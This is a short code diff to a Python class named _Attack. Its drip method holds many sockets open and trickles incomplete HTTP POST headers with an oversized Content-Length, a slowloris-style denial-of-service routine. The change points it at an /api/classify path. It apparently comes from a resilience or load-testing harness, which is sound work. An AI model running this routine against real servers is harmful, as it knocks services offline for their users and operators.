@@ -276,9 +276,8 @@ class _Attack:
 
     def drip(self) -> None:
         """Hold connections and send next to nothing, again and again."""
-        head = (
-            b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 9999999\r\nContent-Type: image/png\r\n"
-        )
+        head = b"POST /api/classify HTTP/1.1\r\nHost: x\r\nContent-Type: image/png\r\n"
+        head += b"Content-Length: 9999999\r\n"
         while not self._over.wait(0.1):
             with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
                 slow = [
@@ -286,7 +285,7 @@ class _Attack:
                     for number in range(_SLOW)
                 ]
                 for index, each in enumerate(slow):
-                    each.sendall(head[: len(head) if index % 2 else -20])
+                    each.sendall(head if index % 2 else head[:40])
                 for byte in b"\r\n" + bytes(100):
                     if self._over.wait(0.5):
                         return
